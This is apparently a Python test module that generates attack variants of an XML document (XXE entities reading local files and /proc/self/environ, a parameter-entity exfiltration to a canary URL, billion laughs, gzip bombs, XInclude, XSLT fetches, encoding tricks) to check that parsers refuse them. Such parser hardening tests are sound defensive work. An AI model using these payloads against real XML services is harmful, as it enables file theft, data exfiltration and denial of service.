"""Attacks by XML: each makes a bad document of a good one, so that the same attack goes through every entry.

``ATTACKS`` must be refused everywhere.  ``HARMLESS`` may be taken where the good document is, for what they add is left
out; they too may reach nothing.
"""

import codecs
import gzip
import io
import re
import zipfile
from collections.abc import Callable

from tests.attacks.canary import Canary

Attack = Callable[[bytes, Canary], bytes]
ATTACKS: dict[str, Attack] = {}
HARMLESS: dict[str, Attack] = {}
_LEAF = re.compile(rb">([^<>\s][^<>]*)</")
_ROOT = re.compile(rb"<([A-Za-z_][\w.-]*:)?([A-Za-z_][\w.-]*)")
_LAST_LEAF = re.compile(rb">[^<>\s][^<>]*</(?!.*>[^<>\s][^<>]*</)", re.DOTALL)


def bare(document: bytes) -> bytes:
    """*document* without its XML declaration, in UTF-8."""
    return re.sub(rb"^\s*<\?xml[^>]*\?>\s*", b"", document.removeprefix(codecs.BOM_UTF8))


def leaf(document: bytes, text: bytes) -> bytes:
    """*document* with *text* in the place of its last value."""
    return _LAST_LEAF.sub(lambda found: b">" + text + b"</", bare(document), count=1)


def beside(document: bytes, text: bytes) -> bytes:
    """*document* with *text* after its last value's element."""
    data = bare(document)
    end = data.index(b">", _LAST_LEAF.search(data).end()) + 1  # type: ignore[union-attr]
    return data[:end] + text + data[end:]


def attributes(document: bytes, text: bytes) -> bytes:
    """*document* with *text* among the attributes of the element that holds its last value."""
    data = bare(document)
    end = _LAST_LEAF.search(data).start()  # type: ignore[union-attr]
    return data[:end] + b" " + text + data[end:]


def root(document: bytes) -> bytes:
    """The name of the document's element, as it stands."""
    found = _ROOT.search(bare(document))
    assert found
    return (found[1] or b"") + found[2]


def doctype(document: bytes, inside: bytes, name: bytes | None = None) -> bytes:
    return b"<!DOCTYPE " + (name or root(document)) + b" " + inside + b">" + bare(document)


def _attack(name: str, make: Attack) -> None:
    assert name not in ATTACKS
    ATTACKS[name] = make


def attack(make: Attack) -> Attack:
    _attack(make.__name__, make)
    return make


def _entity(target: Callable[[Canary], bytes]) -> Attack:
    def make(document: bytes, canary: Canary) -> bytes:
        return doctype(leaf(document, b"&x;"), b"[<!ENTITY x SYSTEM '" + target(canary) + b"'>]")

    return make


def _simple(inside: bytes) -> Attack:
    return lambda document, canary: doctype(document, inside)


# ---------------------------------------------------------------------------------------------- document types

for _name, _inside in {
    "doctype_only": b"",
    "doctype_empty_subset": b"[]",
    "doctype_public": b"PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'http://127.0.0.1:9/x.dtd'",
    "doctype_local_dtd": b"SYSTEM 'file:///usr/share/xml/fontconfig/fonts.dtd' [<!ENTITY % constant 'x'>]",
    "doctype_comment_inside": b"[<!-- a comment -->]",
    "doctype_default_attribute": b"[<!ATTLIST Body forged CDATA 'yes'>]",
    "doctype_notation": b"[<!NOTATION n SYSTEM 'file:///bin/sh'>]",
    "doctype_unparsed_entity": b"[<!NOTATION n SYSTEM 'x'><!ENTITY e SYSTEM 'file:///etc/hostname' NDATA n>]",
    "doctype_recursive": b"[<!ENTITY a '&b;'><!ENTITY b '&a;'>]",
    "doctype_recursive_parameter": b"[<!ENTITY % a '%b;'><!ENTITY % b '%a;'> %a;]",
}.items():
    _attack(_name, _simple(_inside))

for _name, _target in {
    "entity_file": lambda c: c.file.as_uri().encode(),
    "entity_relative_file": lambda c: str(c.file).encode(),
    "entity_http": lambda c: c.url.encode() + b"/x",
    "entity_ftp": lambda c: b"ftp://127.0.0.1:%d/x" % c.port,
    "entity_netdoc": lambda c: b"netdoc://" + str(c.file).encode(),
    "entity_jar": lambda c: b"jar:" + c.url.encode() + b"/x.jar!/y",
    "entity_data": lambda c: b"data:text/plain,forged",
    "entity_php_filter": lambda c: b"php://filter/convert.base64-encode/resource=" + str(c.file).encode(),
    "entity_expect": lambda c: b"expect://id",
    "entity_gopher": lambda c: b"gopher://127.0.0.1:%d/x" % c.port,
    "entity_unc_path": lambda c: b"//127.0.0.1/share/x",
    "entity_proc_self": lambda c: b"file:///proc/self/environ",
    "entity_device": lambda c: b"file:///dev/urandom",
}.items():
    _attack(_name, _entity(_target))


@attack
def external_dtd_http(document, canary):
    return doctype(document, b"SYSTEM '" + canary.url.encode() + b"/x.dtd'")


@attack
def external_dtd_file(document, canary):
    return doctype(document, b"SYSTEM '" + canary.file.as_uri().encode() + b"'")


@attack
def external_dtd_public(document, canary):
    return doctype(document, b"PUBLIC 'x' '" + canary.url.encode() + b"/x.dtd'")


@attack
def parameter_entity_http(document, canary):
    return doctype(document, b"[<!ENTITY % p SYSTEM '" + canary.url.encode() + b"/p'> %p;]")


@attack
def parameter_entity_carries_a_file_out(document, canary):
    inside = (
        b"[<!ENTITY %% f SYSTEM '%s'><!ENTITY %% all \"<!ENTITY &#37; send SYSTEM '%s/?%%f;'>\"> %%all; %%send;]"
        % (
            canary.file.as_uri().encode(),
            canary.url.encode(),
        )
    )
    return doctype(document, inside)


@attack
def entity_in_an_attribute(document, canary):
    return doctype(attributes(document, b'forged="&x;"'), b"[<!ENTITY x 'forged'>]")


@attack
def entity_internal(document, canary):
    return doctype(leaf(document, b"&x;"), b"[<!ENTITY x '1'>]")


@attack
def entity_that_opens_an_element(document, canary):
    return doctype(beside(document, b"&x;"), b"[<!ENTITY x '<Amount>9</Amount>'>]")


@attack
def billion_laughs(document, canary):
    lines = b"".join(b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    return doctype(leaf(document, b"&l11;"), b"[<!ENTITY l0 'ha'>" + lines + b"]")


@attack
def billion_laughs_in_an_attribute(document, canary):
    lines = b"".join(b"<!ENTITY l%d '%s'>" % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    return doctype(attributes(document, b"a='&l11;'"), b"[<!ENTITY l0 'ha'>" + lines + b"]")


@attack
def quadratic_blow_up(document, canary):
    return doctype(leaf(document, b"&x;" * 20_000), b"[<!ENTITY x '" + b"a" * 20_000 + b"'>]")


@attack
def entity_that_nobody_declared(document, canary):
    return leaf(document, b"&nope;")


@attack
def entity_of_html(document, canary):
    return leaf(document, b"1&nbsp;")


@attack
def doctype_after_a_comment(document, canary):
    return b"<!-- all is well -->" + doctype(document, b"[<!ENTITY x 'y'>]")


@attack
def doctype_after_a_byte_order_mark(document, canary):
    return codecs.BOM_UTF8 + doctype(document, b"")


@attack
def doctype_in_the_middle(document, canary):
    return beside(document, b"<!DOCTYPE x [<!ENTITY x 'y'>]>")


@attack
def doctype_in_lower_case(document, canary):
    return b"<!doctype x>" + bare(document)


def _encoded(codec: str, declared: str | None, mark: bytes = b"") -> Attack:
    def make(document: bytes, canary: Canary) -> bytes:
        inside = f"[<!ENTITY x SYSTEM '{canary.file.as_uri()}'>]".encode()
        text = doctype(leaf(document, b"&x;"), inside).decode("utf-8")
        head = f"<?xml version='1.0' encoding='{declared}'?>" if declared else ""
        return mark + (head + text).encode(codec, "xmlcharrefreplace")

    return make


for _codec, _declared, _mark in [
    ("utf-16-le", "UTF-16", codecs.BOM_UTF16_LE), ("utf-16-be", "UTF-16", codecs.BOM_UTF16_BE),
    ("utf-16-le", None, b""), ("utf-16-be", None, b""), ("utf-32-le", "UTF-32", codecs.BOM_UTF32_LE),
    ("utf-32-be", "UCS-4", b""), ("utf-7", "UTF-7", b""), ("cp037", "IBM037", b""), ("utf-8", "UTF-16", b""),
    ("utf-16-le", "UTF-8", codecs.BOM_UTF16_LE), ("iso-8859-1", "ISO-8859-1", b""), ("utf-8", "x-no-such-code", b""),
]:  # fmt: skip
    _attack(f"hidden_in_{_codec}_as_{_declared}{'_marked' if _mark else ''}", _encoded(_codec, _declared, _mark))


# ---------------------------------------------------------------------------------------------- too much


for _depth in (300, 10_000, 100_000):
    _attack(f"depth_{_depth}", lambda document, canary, n=_depth: beside(document, b"<d>" * n + b"</d>" * n))


@attack
def attributes_by_the_thousand(document, canary):
    return attributes(document, b" ".join(b'a%d="1"' % n for n in range(50_000)))


@attack
def attribute_of_eleven_megabytes(document, canary):
    return attributes(document, b'a="' + b"x" * 11_000_000 + b'"')


@attack
def text_of_eleven_megabytes(document, canary):
    return leaf(document, b"x" * 11_000_000)


@attack
def name_of_a_hundred_thousand_letters(document, canary):
    return beside(document, b"<" + b"n" * 100_000 + b"/>")


@attack
def elements_by_the_million(document, canary):
    return beside(document, b"<a/>" * 1_000_000)


@attack
def namespaces_by_the_thousand(document, canary):
    said = b" ".join(b'xmlns:n%d="urn:n%d" n%d:a="1"' % (n, n, n) for n in range(5_000))
    return attributes(document, said)


# ---------------------------------------------------------------------------------------------- reaching out


@attack
def xinclude_file(document, canary):
    href = canary.file.as_uri().encode()
    return beside(document, b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="' + href + b'"/>')


@attack
def xinclude_http(document, canary):
    href = canary.url.encode()
    return beside(document, b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="' + href + b'/x"/>')


@attack
def xslt_as_the_document(document, canary):
    return (
        b'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">'
        b"<x:copy-of select=\"document('" + canary.url.encode() + b"/x')\"/></x:template></x:stylesheet>"
    )


@attack
def type_from_a_schema_elsewhere(document, canary):
    said = b'xmlns:e="urn:evil" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="e:T" '
    return attributes(document, said + b'xsi:schemaLocation="urn:evil ' + canary.url.encode() + b'/evil.xsd"')


@attack
def said_to_be_nil(document, canary):
    return attributes(document, b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"')


@attack
def schema_in_the_document(document, canary):
    inner = b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="'
    return beside(document, inner + canary.url.encode() + b'/x.xsd"/></xs:schema>')


# ---------------------------------------------------------------------------------------------- confusion


for _name, _text in {
    "cdata_unclosed": b"<![CDATA[ 1",
    "cdata_end_in_text": b"1]]>2",
    "comment_unclosed": b"1<!-- 2",
    "comment_with_hyphens": b"1<!-- -- -->2" + b"x" * 400,
    "nul_by_reference": b"1&#0;2",
    "control_by_reference": b"1&#x1;2",
    "surrogate_by_reference": b"1&#xD800;2",
    "beyond_unicode_by_reference": b"1&#x110000;2",
    "nul": b"1\x002",
    "control_character": b"1\x012",
    "bytes_of_no_encoding": b"1\xff\xfe2",
    "overlong_form": b"1\xc0\xbc2",
    "lone_surrogate": b"1\xed\xa0\x802",
    "child_in_a_value": b"1<forged/>2",
    "less_than": b"1<2",
    "ampersand": b"1&2",
}.items():
    _attack(_name, lambda document, canary, text=_text: leaf(document, text))

for _name, _said in {
    "prefix_of_nobody": b'evil:a="1"',
    "attribute_twice": b'a="1" a="2"',
    "attribute_twice_by_two_prefixes": b'xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"',
    "xml_prefix_of_another_namespace": b'xmlns:xml="urn:evil"',
    "prefix_of_the_xmlns_namespace": b'xmlns:evil="http://www.w3.org/2000/xmlns/"',
    "attribute_without_quotes": b"a=1",
    "less_than_in_an_attribute": b'a="<"',
}.items():
    _attack(_name, lambda document, canary, said=_said: attributes(document, said))


@attack
def namespace_of_another(document, canary):
    """The same names in a namespace that is not the contract's."""
    theirs = rb'(xmlns(?::\w+)?="(?:http://|urn:))(?!schemas\.xmlsoap|www\.w3|docs\.oasis)'
    return re.sub(theirs, rb"\1evil.", bare(document))


@attack
def default_namespace_taken_away(document, canary):
    return attributes(document, b'xmlns=""')


@attack
def two_documents(document, canary):
    return bare(document) * 2


@attack
def text_after_the_end(document, canary):
    return bare(document) + b"forged"


@attack
def text_before_the_beginning(document, canary):
    return b"forged" + bare(document)


@attack
def declaration_after_a_line_end(document, canary):
    return b"\n<?xml version='1.0'?>" + bare(document)


@attack
def declaration_in_the_middle(document, canary):
    return beside(document, b"<?xml version='1.0'?>")


@attack
def cut_in_half(document, canary):
    return bare(document)[: len(bare(document)) // 2]


@attack
def cut_before_the_last_sign(document, canary):
    return bare(document).rstrip()[:-1]


@attack
def tags_crossed(document, canary):
    return beside(document, b"<a><b></a></b>")


@attack
def nothing_at_all(document, canary):
    return b""


@attack
def blanks(document, canary):
    return b" \n\t " * 100


@attack
def only_a_byte_order_mark(document, canary):
    return codecs.BOM_UTF8


@attack
def nul_at_the_beginning(document, canary):
    return b"\x00" + bare(document)


@attack
def gzip_bytes(document, canary):
    return gzip.compress(document, mtime=0)


@attack
def gzip_bomb(document, canary):
    return gzip.compress(leaf(document, b"x" * 50_000_000), mtime=0)


@attack
def zip_bytes(document, canary):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("a.xml", document)
    return made.getvalue()


@attack
def json(document, canary):
    return b'{"Envelope": {"Body": {}}}'


@attack
def web_page(document, canary):
    return b"<!DOCTYPE html><html><body><form><input name=a></form></body></html>"


@attack
def pickle(document, canary):
    return b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94."


# ---------------------------------------------------------------------------------------------- harmless


def harmless(make: Attack) -> Attack:
    HARMLESS[make.__name__] = make
    return make


@harmless
def schema_location_alone(document, canary):
    said = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:evil '
    return attributes(document, said + canary.url.encode() + b'/evil.xsd"')


@harmless
def no_namespace_schema_location(document, canary):
    said = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="'
    return attributes(document, said + canary.url.encode() + b'/evil.xsd"')


@harmless
def stylesheet_instruction(document, canary):
    return b'<?xml-stylesheet type="text/xsl" href="' + canary.url.encode() + b'/x.xsl"?>' + bare(document)


@harmless
def model_instruction(document, canary):
    return b'<?xml-model href="' + canary.url.encode() + b'/x.rng"?>' + bare(document)


@harmless
def php_instruction(document, canary):
    return beside(document, b"<?php system('id') ?>")


@harmless
def comment_in_a_value(document, canary):
    value = _LEAF.findall(bare(document))[-1]
    return leaf(document, value[:1] + b"<!-- not here -->" + value[1:])


@harmless
def value_in_cdata(document, canary):
    return leaf(document, b"<![CDATA[" + _LEAF.findall(bare(document))[-1] + b"]]>")


@harmless
def markup_in_cdata(document, canary):
    """A value that looks like an element is a value."""
    return leaf(document, b"<![CDATA[<Amount>9</Amount>]]>")


@harmless
def base_of_another(document, canary):
    return attributes(document, b'xml:base="' + canary.url.encode() + b'/"')
